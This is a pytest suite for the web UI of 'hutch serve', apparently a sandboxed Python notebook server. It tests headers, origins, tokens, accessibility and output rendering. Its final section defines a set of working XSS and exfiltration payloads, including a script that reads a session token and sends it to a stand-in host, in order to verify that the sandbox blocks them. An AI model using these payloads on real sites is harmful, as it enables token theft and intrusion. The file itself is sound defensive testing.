"""`hutch serve --ui`: the page in Chromium, by keyboard and mouse, and what hostile HTML can do in it."""
import hashlib
import http.client
import json
import os
import re
import socket
import threading
import time

import pytest

import gateway
import openapi
import support
from browser import SECONDS, Browser, find
from gateway import Server

SOURCES = ("page.css", "page.js", "server.js", "editor.js", "output.js", "ansi.js", "frame.js", "pool.js")
LISTEN = ("--listen", "127.0.0.1:0")
OPEN = (*LISTEN, "--insecure-no-auth", "--ui")
TOKEN = "5d41402abc4b2a76b9719d911017c592"


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    if not find():
        support.miss("chromium is not installed (.ci/packages test)")
    with Browser(tmp_path_factory.mktemp("browser")) as started:
        yield started


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    with Server(tmp_path_factory.mktemp("gateway"), *OPEN, image="python") as started:
        yield started


def url_of(server, path="/ui/"):
    return "http://127.0.0.1:%d%s" % (server.port(), path)


def status(page):
    return page.value("document.getElementById('status').textContent")


def await_status(page, text):
    return page.until("document.getElementById('status')?.textContent.includes(%s)" % json.dumps(text))


def open_page(browser, server, **more):
    page = browser.page(**more)
    page.open(url_of(server))
    await_status(page, "ready")
    return page


@pytest.fixture
def page(browser, server, tmp_path):
    """A tab with the page and a session of its own. At the end nothing has complained, and it has asked its server alone."""
    opened = open_page(browser, server, downloads=tmp_path)
    yield opened
    assert opened.complaints == []
    strange = [url for url in opened.requests if not url.startswith((url_of(server, "/"), "data:image/", "blob:", "about:srcdoc"))]
    assert strange == []
    opened.close()


SHOWN = "document.querySelector('#outputs > li .shown')"


def write(page, code):
    """Into the editor, in place of what is in it."""
    page.value("document.getElementById('code').focus()")
    page.key("a", ctrl=True)
    page.type(code)


def start(page, code):
    """As its user does."""
    cells = page.value("document.querySelectorAll('#outputs > li').length")
    write(page, code)
    page.key("Enter", ctrl=True)
    page.until("document.querySelectorAll('#outputs > li').length === %d" % (cells + 1))


def run(page, code):
    """The text that the cell shows, when it is over."""
    start(page, code)
    page.until("document.querySelector('#outputs > li .end').textContent !== 'running'")
    page.until("document.getElementById('interrupt').disabled")
    return page.value(SHOWN + ".textContent")


def press(page, name):
    """A button, by keyboard. @name: its id, or its label."""
    page.until("!!(document.getElementById(%s) ?? document.querySelector(`[aria-label=%s]`))" % (json.dumps(name), json.dumps(name)))
    page.value("(document.getElementById(%s) ?? document.querySelector(`[aria-label=%s]`)).focus()" % (json.dumps(name), json.dumps(name)))
    page.key("Enter")


ROWS = "[...document.querySelectorAll('#%s .what')].map(each => each.textContent)"


def await_rows(page, place, names):
    """The names in a list, which is asked for when a cell or an upload is over."""
    page.until("JSON.stringify(%s) === JSON.stringify(%s)" % (ROWS % place, json.dumps(names)))


# --------------------------------------------------------------------------------------------------
# What the server sends

def ask(server, path, method="GET", body=None, **headers):
    connection = http.client.HTTPConnection("127.0.0.1", server.port(), timeout=gateway.SECONDS)
    connection.request(method, path, body, headers)
    answer = connection.getresponse()
    found = gateway.Answer(answer.status, answer.headers, answer.read())
    connection.close()
    openapi.check(method, path, body, headers.get("Content-Type"), found)
    return found


def test_headers(server):
    for path, kind in (("/ui/", "text/html"), ("/ui/page.css", "text/css"), *(("/ui/" + name, "text/javascript") for name in SOURCES[1:])):
        answer = ask(server, path)
        assert answer.status == 200 and answer.headers["Content-Type"] == kind + "; charset=utf-8", path
        rules = dict(rule.split(" ", 1) for rule in answer.headers["Content-Security-Policy"].split("; "))
        assert rules == {"default-src": "'none'", "script-src": "'self'", "connect-src": "'self'", "img-src": "data:",
                         "style-src": "'self' 'unsafe-inline'", "base-uri": "'none'", "form-action": "'none'", "frame-ancestors": "'none'",
                         "require-trusted-types-for": "'script'", "trusted-types": "frame"}
        assert {name: answer.headers[name] for name in ("X-Content-Type-Options", "Referrer-Policy", "Cross-Origin-Opener-Policy",
                                                        "Cross-Origin-Resource-Policy", "X-Frame-Options", "Cache-Control")} == {
            "X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer", "Cross-Origin-Opener-Policy": "same-origin",
            "Cross-Origin-Resource-Policy": "same-origin", "X-Frame-Options": "DENY", "Cache-Control": "no-store"}
        assert ask(server, path, "HEAD").headers["Content-Security-Policy"] == answer.headers["Content-Security-Policy"]
        text = re.sub(rb"http://www\.w3\.org/2000/svg", b"", answer.body)
        assert not re.search(rb"https?:|[\"'(]//", text.replace(b"// ", b"")), path  # nothing from elsewhere
        assert not re.search(rb"innerHTML *\+?=|outerHTML|insertAdjacentHTML|document\.write|\beval\b *\(|\son\w+=\"| style=\"", text), path
    answer = ask(server, "/ui")
    assert (answer.status, answer.headers["Location"]) == (308, "ui/")
    assert ask(server, "/ui/none.js").status == 404 and ask(server, "/ui/page.html").status == 404
    assert ask(server, "/ui/..%2fpage.c").status == 404
    assert ask(server, "/ui/", "POST").status == 405


def test_without_the_option(tmp_path):
    with Server(tmp_path, *LISTEN, "--insecure-no-auth") as server:
        for path in ("/ui/", "/ui", "/ui/page.js"):
            assert ask(server, path).status == 404
        origin = "http://127.0.0.1:%d" % server.port()
        assert json.loads(ask(server, "/v1/run", "POST", b"{}", Origin=origin).body)["error"]["code"] == "origin_not_allowed"


def test_origins(tmp_path):
    """The page's own origin may ask where its name is one of the server's. All others may not."""
    with Server(tmp_path, *OPEN, "--listen", "unix:" + gateway.socket_path(tmp_path), "--allow-host", "box.example") as server:
        port = server.port()
        for host in ("127.0.0.1:%d" % port, "localhost:%d" % port, "box.example"):
            for origin in ("http://" + host, "https://" + host):
                answer = ask(server, "/v1/pools", Host=host, Origin=origin)
                assert answer.status == 200 and "Access-Control-Allow-Origin" not in answer.headers
                assert server.ask("GET", "/v1/pools", headers={"Host": host, "Origin": origin}).status == 200
            for origin in ("null", "http://evil.example", "http://%s.evil.example" % host, "ftp://" + host, host, "http://" + host + "/",
                           "http://127.0.0.1:%d" % (port + 1), "http://", ""):
                assert ask(server, "/v1/pools", Host=host, Origin=origin).status == 403, origin
        own = {"Host": "box.example", "Origin": "http://box.example"}
        assert [ask(server, "/v1/pools", **own, **{"Sec-Fetch-Site": site}).status for site in ("same-origin", "same-site", "cross-site")] == \
            [200, 403, 403]
        evil = {"Host": "evil.example", "Origin": "http://evil.example"}
        assert ask(server, "/v1/pools", **evil).status == 403 and ask(server, "/ui/", Host="evil.example").status == 403
        assert server.ask("GET", "/v1/pools", headers=evil).status == 403  # also where no name is asked for


# --------------------------------------------------------------------------------------------------
# What its user does

def test_plot_and_table(page):
    run(page, "import pandas as pd\nimport matplotlib.pyplot as plt\nplt.plot([1, 2])\npd.DataFrame({'city': ['Oslo']})")
    image = "document.querySelector('#outputs img')"
    assert page.until(image + "?.complete") and page.value(image + ".naturalWidth") > 100
    assert page.value(image + ".src").startswith("data:image/png;base64,") and "Figure" in page.value(image + ".alt")
    frame = "document.querySelector('#outputs iframe')"
    assert page.value(frame + ".getAttribute('sandbox')") == "" and page.value(frame + ".contentDocument") is None
    assert page.value("document.querySelector('#outputs iframe').title")
    gateway.await_that(lambda: any("Oslo" in frame for frame in page.frames()))


def test_svg_is_an_image(page):
    run(page, "from IPython.display import SVG\nSVG('<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"50\" height=\"20\">"
              "<script>parent.stolen = 1</script><circle r=\"9\" cx=\"9\" cy=\"9\"/></svg>')")
    assert page.until("document.querySelector('#outputs img')?.naturalWidth === 50")
    assert page.value("document.querySelector('#outputs img').src").startswith("data:image/svg+xml;")
    assert not page.value("!!document.querySelector('#outputs svg') || 'stolen' in window")


def test_output_as_it_comes_and_upload(page, tmp_path):
    """The first line is there while the cell waits for a file that is uploaded then."""
    start(page, "import os, time\nprint('first', flush=True)\n"
                "while not os.path.exists('go.txt') or os.path.getsize('go.txt') < 8: time.sleep(0.02)\n"
                "print(open('go.txt').read())")
    assert page.until(SHOWN + ".textContent.includes('first')")
    assert page.value("document.querySelector('#outputs > li .end').textContent") == "running"
    (tmp_path / "go.txt").write_text("hello ÿ", encoding="utf-8")  # 8 bytes, which are there later than the file is
    node = page.order("DOM.querySelector", nodeId=page.order("DOM.getDocument")["root"]["nodeId"], selector="#chosen")["nodeId"]
    page.order("DOM.setFileInputFiles", nodeId=node, files=[str(tmp_path / "go.txt")])
    assert page.until(SHOWN + ".textContent.includes('hello ÿ')")
    page.until("document.querySelector('#files .what')?.textContent === 'go.txt'")


def test_drop_and_download(page, tmp_path):
    page.value("""(() => {
        const data = new DataTransfer();
        data.items.add(new File(["dropped"], "a b%2e.txt"));
        for (const type of ["dragover", "drop"])
            document.body.dispatchEvent(new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer: data }));
    })()""")
    await_status(page, "uploaded a b%2e.txt")
    assert run(page, "print(open('/mnt/data/a b%2e.txt').read())") == "dropped\n"
    press(page, "Download a b%2e.txt")
    await_status(page, "7 B")
    gateway.await_that(lambda: any(name.startswith("a b") for name in os.listdir(tmp_path)))
    gateway.await_that(lambda: [path.read_text() for path in tmp_path.glob("a b*.txt")] == ["dropped"])
    press(page, "Remove a b%2e.txt")
    await_status(page, "removed")
    await_rows(page, "files", [])


def test_a_button_in_hand_stays_there(page):
    """When the list that it is in is made anew."""
    run(page, "open('kept', 'w').close()")
    await_rows(page, "files", ["kept"])
    page.value("document.querySelector('[aria-label=\"Remove kept\"]').focus()")
    page.value("""(() => {
        const data = new DataTransfer();
        data.items.add(new File(["x"], "another"));
        document.body.dispatchEvent(new DragEvent("drop", { bubbles: true, cancelable: true, dataTransfer: data }));
    })()""")
    await_rows(page, "files", ["another", "kept"])
    assert page.value("document.activeElement.getAttribute('aria-label')") == "Remove kept"
    page.key("Enter")
    await_rows(page, "files", ["another"])


def test_names_of_files_are_text(page):
    name = "<img src=x onerror=stolen=1>"
    run(page, "import os; open(%r, 'w').close(); os.mkdir('d'); open('d/..x', 'w').write('deep'); print(os.listdir('.'))" % name)
    page.until("document.querySelectorAll('#files .what').length >= 2")
    page.until("[%s, 'd/..x'].every(name => %s.includes(name))" % (json.dumps(name), ROWS % "files"))
    assert not page.value("!!document.querySelector('#files img') || 'stolen' in window")
    press(page, "Remove d/..x")
    await_status(page, "removed d/..x")


def test_traceback_in_colours(page):
    text = run(page, "def f(a):\n    return 1 / a\nf(0)")
    assert "ZeroDivisionError: division by zero" in text and "\x1b" not in text
    assert page.value("document.querySelector('#outputs .cell').classList.contains('failed')")
    assert "ZeroDivisionError" in page.value("document.querySelector('#outputs .traceback .fg1').textContent + "
                                             "[...document.querySelectorAll('#outputs .traceback .fg1')].map(each => each.textContent)")
    assert status(page) == "ZeroDivisionError"
    plain, red, mixed = (page.value("getComputedStyle(document.querySelector('%s')).color" % each)
                         for each in ("#outputs .traceback", "#outputs .fg1", "#outputs .traceback [style*=color-mix]"))
    assert len({plain, red, mixed}) == 3


def test_streams(page):
    text = run(page, "import sys\nprint('out')\nprint('err', file=sys.stderr)\nprint('<b>bold</b>')\n"
                     "display('one', display_id='d').update('two')")
    assert "out\n" in text and "<b>bold</b>" in text and "'two'" in text and "'one'" not in text
    assert page.value("document.querySelector('#outputs .stderr').textContent") == "err\n"
    assert run(page, "from IPython.display import clear_output\nprint('old')\nclear_output(wait=True)\nprint('new')") == "new\n"
    assert "exit code 3" in run(page, "import os; os._exit(3)")


def test_interrupt_and_restart(page):
    run(page, "x = 41; open('kept', 'w').write('k')")
    start(page, "print('begun', flush=True)\nimport time\nwhile True: time.sleep(0.05)")
    page.until(SHOWN + ".textContent.includes('begun')")
    press(page, "interrupt")
    page.until(SHOWN + ".textContent.includes('KeyboardInterrupt')")
    assert run(page, "x + 1") == "42"
    press(page, "restart")
    await_status(page, "restarted")
    assert "NameError" in run(page, "x")
    assert run(page, "print(open('kept').read())") == "k\n"
    await_rows(page, "files", ["kept"])


def test_checkpoint_and_rollback(page):
    run(page, "x = 1; open('a', 'w').write('one')")
    press(page, "checkpoint")
    await_status(page, "checkpoint 1, in")
    await_rows(page, "checkpoints", ["checkpoint 1"])
    run(page, "x = 2; import os; os.remove('a')")
    await_rows(page, "files", [])
    press(page, "Roll back to checkpoint 1")
    await_status(page, "back at checkpoint 1")
    await_rows(page, "files", ["a"])
    assert run(page, "x, open('a').read()") == "(1, 'one')"
    press(page, "Drop checkpoint 1")
    await_status(page, "is dropped")
    await_rows(page, "checkpoints", [])


def test_session_that_ended(browser, server):
    page = open_page(browser, server)
    run(page, "x = 1")
    session = page.value("sessionStorage.getItem('hutch-session')")
    assert ask(server, "/v1/sessions/" + session, "DELETE").status == 204
    assert "NameError" in run(page, "x")
    assert status(page).startswith("the session had ended")
    assert page.value("sessionStorage.getItem('hutch-session')") != session
    run(page, "y = 5")
    page.open("about:blank")
    page.open(url_of(server))
    await_status(page, "the session of before goes on")
    assert run(page, "y") == "5"
    press(page, "renew")
    await_status(page, "a new session")
    assert "NameError" in run(page, "y")
    assert all("404" in each for each in page.complaints)
    page.close()


def test_server_that_has_gone(browser, tmp_path):
    with Server(tmp_path, *OPEN, image="python") as server:
        page = open_page(browser, server)
        server.signal()
        server.await_end()
        write(page, "1")
        page.key("Enter", ctrl=True)
        await_status(page, "the server cannot be reached")
        page.close()


# --------------------------------------------------------------------------------------------------
# How it is used

def focus(page):
    return page.value("document.activeElement.id || document.activeElement.getAttribute('aria-label') || document.activeElement.localName")


def test_keyboard_alone(page):
    assert focus(page) == "code"
    write(page, "if 1:")
    page.key("Enter")
    page.type("x = 1")
    page.key("Enter")
    page.key("Tab")
    page.key("Tab", shift=True)
    page.type("y")
    assert page.value("document.getElementById('code').value") == "if 1:\n    x = 1\n    y"
    page.value("document.getElementById('code').setSelectionRange(0, 99)")
    page.key("Tab")
    assert page.value("document.getElementById('code').value") == "    if 1:\n        x = 1\n        y"
    page.key("Tab", shift=True)
    assert page.value("document.getElementById('code').value") == "if 1:\n    x = 1\n    y"
    assert focus(page) == "code"
    write(page, "6 * 7")
    page.key("Escape")
    page.key("Tab")
    assert focus(page) == "run"
    page.key(" ")
    page.until(SHOWN + "?.textContent === '42'")
    page.until("document.getElementById('interrupt').disabled")
    press(page, "checkpoint")
    await_status(page, "checkpoint 1")
    page.value("document.getElementById('run').focus()")
    seen = []
    while not seen or (seen[-1] not in ("code", "body") and len(seen) < 30):
        page.key("Tab")
        seen.append(focus(page))
    assert {"Edit this code again", "Code of the cell", "upload", "Roll back to checkpoint 1", "Drop checkpoint 1", "checkpoint"} <= set(seen), seen


def test_everything_has_a_name(page):
    run(page, "import pandas as pd\nopen('f', 'w').close()\npd.DataFrame({'a': [1]})")
    await_rows(page, "files", ["f"])
    press(page, "checkpoint")
    await_status(page, "checkpoint 1")
    nodes = page.order("Accessibility.getFullAXTree")["nodes"]
    found = {}
    for node in nodes:
        if not node.get("ignored"):
            found.setdefault(node["role"]["value"], []).append(node.get("name", {}).get("value", ""))
    for role in ("button", "textbox", "heading", "region", "log", "Iframe"):
        assert found[role] and all(found[role]), (role, found[role])
    assert "Python" in found["textbox"] and {"Run", "Interrupt", "Restart", "Upload", "Checkpoint", "Download f", "Remove f"} <= set(found["button"])
    assert found["main"] and found["status"] and found["complementary"]
    assert page.value("document.documentElement.lang") == "en" and page.value("document.title") == "hutch"


def luminance(colour):
    parts = [int(part) / 255 for part in re.findall(r"\d+", colour)[:3]]
    red, green, blue = (part / 12.92 if part <= 0.03928 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def test_dark_and_light(page):
    """Texts and their grounds are 4.5 to 1 apart, as WCAG 2 wants it."""
    write(page, "@dec\ndef f(): # c\n    return 'a', 1, print")
    grounds = {}
    for scheme in ("light", "dark"):
        page.order("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}])
        ground = grounds[scheme] = page.value("getComputedStyle(document.getElementById('editor')).backgroundColor")
        for name in ("comment", "string", "number", "keyword", "builtin", "name"):
            text = page.value("getComputedStyle(document.querySelector('#colours .%s')).color" % name)
            light, dark = sorted((luminance(text), luminance(ground)), reverse=True)
            assert (light + 0.05) / (dark + 0.05) >= 4.5, (scheme, name, text, ground)
    assert luminance(grounds["light"]) > 0.8 > 0.2 > luminance(grounds["dark"])


def test_colours_of_python(page):
    write(page, '@dec.x\nasync def f(a):  # é\n    return f"""a\n"b" """ + r\'\\\'\' + 0x1F + 1.5e3j, None, s.print, print\nprintx "open')
    assert page.value("[...document.querySelectorAll('#colours span')].map(each => each.className + ' ' + each.textContent)") == [
        "name @dec.x", "keyword async", "keyword def", "name f", "comment # é", "keyword return", 'string f"""a\n"b" """', "string r'\\''",
        "number 0x1F", "number 1.5e3j", "keyword None", "builtin print", 'string "open']
    assert page.value("document.getElementById('colours').textContent === document.getElementById('code').value + '\\n'")
    page.value("document.getElementById('code').value = '\"' + '\\\\\\\\x'.repeat(30000) + '(('.repeat(10000)")
    before = time.monotonic()
    page.type("x")
    assert page.value("document.getElementById('colours').textContent.length") > 90000 and time.monotonic() - before < 30


ANSI = [("a\rb", "b"), ("10%\r20%\r", "20%"), ("a\r\nb", "a\nb"), ("\x1b[31mred\x1b[0m.", "[fg1:red]."), ("\x1b[1;4;38;5;241mx", "[bold underline:x]"),
        ("\x1b[38;2;1;2;300mx\x1b[39my", "[:x]y"), ("\x1b[32ma\nb\x1b[mc", "[fg2:a]\n[fg2:b]c"), ("\x1b]0;title\x07t\x1b[2Ju\x1b[?25hv", "tuv"),
        ("a\x00b\x07c\x7f", "a\u2400b\u2407c\u2421"), ("\x1b[7m\x1b[44mi", "[inverse bg4:i]"), ("<b>", "<b>")]


def test_escape_sequences(page):
    """In one piece and byte by byte."""
    for text, wanted in ANSI:
        for pieces in ([text], list(text)):
            found = page.value("""(async () => {
                const { AnsiText } = await import("/ui/ansi.js"), pre = document.createElement("pre"), text = new AnsiText(pre);
                %s.forEach(piece => text.write(piece));
                return [...pre.children].flatMap(line => [...line.childNodes]).map(each => each.nodeType === 3 ? each.data :
                    `[${each.className}:${each.textContent}]`).join("");
            })()""" % json.dumps(pieces))
            assert found == wanted, (text, pieces)
    lines, first, longest = page.value("""(async () => {
        const { AnsiText } = await import("/ui/ansi.js"), pre = document.createElement("pre"), text = new AnsiText(pre);
        for (let i = 0; i < 20000; i++) text.write(`${i}\\n`);
        for (let i = 0; i < 200; i++) text.write("0123456789".repeat(100));
        return [pre.children.length, pre.firstChild.textContent, Math.max(...[...pre.children].map(line => line.textContent.length))];
    })()""")
    assert lines <= 5001 and int(first) >= 15000 and 60000 < longest < 70000


def test_live_view(page, server):
    assert ask(server, "/v1/run", "POST", b'{"code": "print(1)"}', **{"Content-Type": "application/json"}).status == 200
    run(page, "1")
    text = page.until("document.getElementById('figures').textContent.includes('runs, median') && document.getElementById('figures').textContent")
    assert re.search(r"runs, median≤ [\d.]+ ms", text) and "cells of this page, median" in text
    names = page.value("[...document.querySelectorAll('#pools td:first-child')].map(each => each.textContent)")
    assert names == [pool["name"] for pool in json.loads(ask(server, "/v1/pools").body)["pools"]]
    assert page.value("document.querySelector('#latency polyline').points.numberOfItems") == 1


# --------------------------------------------------------------------------------------------------
# Tokens

@pytest.fixture(scope="module")
def closed(tmp_path_factory):
    """A server that wants a token."""
    folder = tmp_path_factory.mktemp("tokens")
    (folder / "tokens").write_text("ada %s\n" % hashlib.sha256(TOKEN.encode()).hexdigest())
    (folder / "tokens").chmod(0o600)
    with Server(tmp_path_factory.mktemp("closed"), *LISTEN, "--tokens", str(folder / "tokens"), "--ui", image="python") as started:
        yield started


def give_token(page, text):
    page.until("document.getElementById('ask').open")
    page.value("document.getElementById('token').focus()")
    page.key("a", ctrl=True)
    page.type(text)
    page.key("Enter")


def test_token(browser, closed):
    assert ask(closed, "/ui/").status == 200 and ask(closed, "/v1/pools").status == 401
    page = browser.page()
    page.open(url_of(closed))
    page.until("document.getElementById('ask')?.open")
    assert focus(page) == "token" and page.value("document.getElementById('token').type") == "password"
    assert status(page) == "connecting" and page.value("document.getElementById('ask-why').textContent") == ""
    page.key("Escape")  # there is nothing without a token: it opens anew, when it has been told that it was closed
    page.until("document.getElementById('ask').open")
    give_token(page, "tökén")
    page.until("document.getElementById('ask-why').textContent.includes('ASCII')")
    give_token(page, "wrong")
    page.until("document.getElementById('ask-why').textContent.includes('does not know')")
    assert page.value("sessionStorage.getItem('hutch-session')") is None
    give_token(page, TOKEN)
    await_status(page, "ready")
    assert not page.value("document.getElementById('ask').open") and page.value("document.getElementById('token').value") == ""
    assert run(page, "6 * 7") == "42"
    assert page.value("location.href") == url_of(closed) and not any(TOKEN in url for url in page.requests)
    page.open("about:blank")
    page.open(url_of(closed))
    await_status(page, "the session of before goes on")
    assert page.value("localStorage.length") == 0 and page.value("document.cookie") == ""
    assert all("401" in each for each in page.complaints), page.complaints
    page.close()


def open_by_link(page, closed):
    """The user is asked whether the token is to be used: it may be one of who has made the link."""
    page.open(url_of(closed) + "#token=" + TOKEN)
    page.until("document.getElementById('ask')?.open")
    assert "The link to this page has a token" in page.value("document.getElementById('ask-why').textContent")
    assert page.value("location.hash") == "" and page.value("sessionStorage.getItem('hutch-token')") is None
    page.key("Enter")
    await_status(page, "ready")


def test_token_in_a_link(browser, closed):
    page = browser.page()
    open_by_link(page, closed)
    assert page.value("location.href") == url_of(closed) and not page.value("document.getElementById('ask').open")
    assert all("401" in each for each in page.complaints)
    page.open(url_of(closed) + "#token=another")  # one that is good is kept
    page.value("location.reload()")
    await_status(page, "the session of before goes on")
    assert page.value("navigation.entries().every(each => !each.url.includes('token'))")
    assert not any(TOKEN in url for url in page.requests)
    page.close()


# --------------------------------------------------------------------------------------------------
# Hostile code

class Listener:
    """A server of the test's own: whoever connects has got through. It answers with a page where it has one for the path."""

    def __init__(self):
        self.pages, self.seen, self.connections = {}, [], 0
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.address = "127.0.0.1:%d" % self.sock.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                sock, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            threading.Thread(target=self._answer, args=(sock,), daemon=True).start()

    def _answer(self, sock):
        with sock:
            sock.settimeout(10)
            try:
                path = sock.recv(65536).split(b" ")[1].decode()
            except (OSError, IndexError):
                return
            self.seen.append(path)
            body = self.pages.get(path, "").encode()
            sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s" %
                         (b"text/html" if path in self.pages else b"text/css", len(body), body))

    def close(self):
        self.sock.close()


@pytest.fixture
def listener():
    started = Listener()
    yield started
    started.close()


# Each asks for a path of its own name from the listener, by itself; "steal" takes what it can reach.
HOSTILE = {
    "script": "<script>steal('script')</script><script src='http://HOST/script'></script>",
    "module": "<script type=module>import 'http://HOST/module'</script>",
    "onerror": "<img src=x onerror=\"steal('onerror')\"><svg onload=\"steal('onload')\"></svg><body onload=\"steal('body')\">",
    "image": "<img src='http://HOST/image'><img srcset='http://HOST/image 2x'><input type=image src='http://HOST/image'>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://HOST/refresh'>",
    "form": "<form action='http://HOST/form' id=f><input name=a autofocus onfocus=\"f.submit()\"></form><script>f.submit()</script>",
    "frame": "<iframe src='http://HOST/frame'></iframe><iframe srcdoc=\"<img src='http://HOST/frame'>\"></iframe>",
    "object": "<object data='http://HOST/object'></object><embed src='http://HOST/object'>",
    "stylesheet": "<link rel=stylesheet href='http://HOST/stylesheet'>",
    "import": "<style>@import 'http://HOST/import';</style>",
    "background": "<style>body { background: url(http://HOST/background) }</style><p style='background: url(http://HOST/background)'>a</p>",
    "font": "<style>@font-face { font-family: f; src: url(http://HOST/font) } p { font-family: f }</style><p>text</p>",
    "base": "<base href='http://HOST/' target=_top><img src='base'>",
    "media": "<video src='http://HOST/media' poster='http://HOST/media' autoplay></video><audio src='http://HOST/media' autoplay></audio>",
    "hints": "<link rel=preconnect href='http://HOST/'><link rel=prefetch href='http://HOST/hints'><link rel=preload as=image href='http://HOST/hints'>"
             "<link rel=dns-prefetch href='//HOST'>",
    "svg": "<svg><image href='http://HOST/svg' width=9 height=9 /><use href='http://HOST/svg#a'/><style>@import 'http://HOST/svg';</style></svg>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=http://HOST/mutation onerror=steal(1)&gt;\">",
    "noscript": "<noscript><img src='http://HOST/noscript'></noscript><p title=\"</noscript><img src='http://HOST/noscript'>\">",
    "top": "<a href='http://HOST/top' target=_top id=t>x</a><script>top.location = 'http://HOST/top'; t.click()</script>",
    "popup": "<script>open('http://HOST/popup')</script>",
}
STEAL = """<script>function steal(how) {
    let found = ""; for (const each of [top, parent, opener ?? {}]) { try { found += each.sessionStorage.getItem("hutch-token"); } catch (error) {}
    try { each.stolen = how; } catch (error) {} } fetch("http://HOST/stolen?" + how + found, { mode: "no-cors" }); }</script>"""
OWN_WAY = ("form", "top", "refresh", "popup", "noscript", "mutation", "hints")  # they lead elsewhere, or load nothing in an ordinary page


def click_frame(page):
    """Clicks into the output's frame until it has the focus. The frame moves while the page lays out what came with it, so its
    place is asked for until it is twice the same."""
    deadline, before = time.monotonic() + SECONDS, None
    while page.value("document.activeElement?.tagName") != "IFRAME":
        assert time.monotonic() < deadline, page.value("document.body.innerText")
        box = page.value("(found => found && (({ x, y, height }) => [x, y, height])(found.getBoundingClientRect()))"
                         "(document.querySelector('#outputs iframe'))")
        if box and box == before and box[2] > 24:
            page.click(box[0] + 12, box[1] + 12)
        before = box


def test_hostile_html(browser, closed, listener):
    """It reaches neither the page nor its token, and nothing connects to the listener."""
    page = browser.page()
    open_by_link(page, closed)
    everything = "".join(HOSTILE.values())
    for name, html in {**HOSTILE, "everything": everything}.items():
        text = (STEAL + html + "<p>shown</p>").replace("HOST", listener.address)
        assert "Display" not in run(page, "from IPython.display import HTML, display\ndisplay(HTML(%r))" % text), name
        click_frame(page)
        assert page.value("location.href") == url_of(closed), name
        assert listener.connections == 0, (name, listener.seen)
    time.sleep(1)
    assert listener.connections == 0, listener.seen
    assert page.value("window.stolen") is None and page.value("sessionStorage.getItem('hutch-token')") == TOKEN
    assert page.value("[...document.querySelectorAll('#outputs iframe')].every(each => each.getAttribute('sandbox') === '' && each.contentDocument === null)")
    assert run(page, "1 + 1") == "2" and status(page) == "ready"
    # What runs inside cannot say it in another way either: names, texts and errors are texts.
    html = "<img src=http://%s/x onerror=steal()>" % listener.address
    run(page, "display({'image/png': %r, 'text/plain': %r}, raw=True)\ndisplay({'image/svg+xml': %r}, raw=True)\n"
              "display({'text/markdown': %r}, raw=True)\nraise type(%r, (Exception,), {})(%r)" %
        ("\"><img src=x>" + html, html, "<svg xmlns='http://www.w3.org/2000/svg'><image href='http://%s/y'/></svg>" % listener.address, html, html, html))
    time.sleep(0.5)
    assert listener.connections == 0 and not page.value("!!document.querySelector('#outputs img[onerror]')")
    page.close()


WALLS = {
    "frame and rules": {"${cleaned(text)}": "${text}"},
    "frame and rules of the page": {"${cleaned(text)}": "${text}", "default-src 'none'; style-src": "img-src * data:; style-src"},
    "rules": {"${cleaned(text)}": "${text}", '"sandbox", ""': '"sandbox", "allow-scripts allow-forms allow-popups"'},
    "rules of the page": {"${cleaned(text)}": "${text}", "default-src 'none'; style-src": "img-src * data:; style-src",
                          '"sandbox", ""': '"sandbox", "allow-scripts allow-forms allow-popups"'},
}


@pytest.mark.parametrize("wall", WALLS)
def test_each_wall_holds_alone(browser, closed, listener, wall):
    """The same HTML where a wall or two are taken out of the page: what is left asks for nothing and reaches nothing either. Chromium opens
    connections, without a word, before it looks at the rules: against that the cleaning is alone."""
    page = browser.page()
    source = ask(closed, "/ui/frame.js")
    body = source.body.decode()
    for old, new in WALLS[wall].items():
        assert old in body
        body = body.replace(old, new)
    page.replace(url_of(closed, "/ui/frame.js"), dict(source.headers.items()), body.encode())
    open_by_link(page, closed)
    for name, html in HOSTILE.items():
        if name != "hints":  # which no rule forbids: the cleaning alone takes them out
            text = (STEAL + html + "<p>raw</p><s>").replace("HOST", listener.address)
            run(page, "from IPython.display import HTML, display\ndisplay(HTML(%r))" % text)
            page.until("document.querySelector('#outputs iframe')?.srcdoc.includes('<p>raw</p><s>')")
            assert listener.seen == [], name
    time.sleep(1)
    assert listener.seen == []
    assert page.value("window.stolen") is None and page.value("location.href") == url_of(closed)
    pages = [each for each in browser.order("Target.getTargets", filter=[{"type": "page"}])["targetInfos"] if each.get("browserContextId") == page.context]
    assert len(pages) == 1 and run(page, "1 + 1") == "2"
    page.close()


def test_texts_that_become_html(page):
    """That happens in one place, and what it makes has nothing of these."""
    html = (STEAL + "".join(HOSTILE.values())).replace("HOST", "evil.example")
    cleaned = page.value("import('/ui/frame.js').then(({ cleaned }) => cleaned(%s))" % json.dumps(html))
    assert "<p" in cleaned and not re.search(r"<(script|link|meta|base|form|input|iframe|object|embed|svg|math|video|audio|a)\b| on\w+=|href|src=",
                                             re.sub(r'="[^"]*"', "", cleaned)), cleaned
    assert page.value("(() => { try { document.body.innerHTML = '<p>'; } catch (error) { return error.name; } })()") == "TypeError"
    assert page.value("(() => { try { trustedTypes.createPolicy('frame', {}); } catch (error) { return error.name; } })()") == "TypeError"
    page.complaints.clear()  # that it was tried


def test_hostile_html_elsewhere(browser, listener):
    """What the tests above take for hostile is: in an ordinary page each of these connects."""
    for name, html in HOSTILE.items():
        if name not in OWN_WAY:
            listener.pages["/page-" + name] = (STEAL + html).replace("HOST", listener.address)
    for path in list(listener.pages):
        page = browser.page()
        before = len(listener.seen)
        page.open("http://%s%s" % (listener.address, path))
        gateway.await_that(lambda: len([each for each in listener.seen[before:] if each not in (path, "/favicon.ico")]) > 0)
        page.close()


def test_cleaned_tables_are_whole(page):
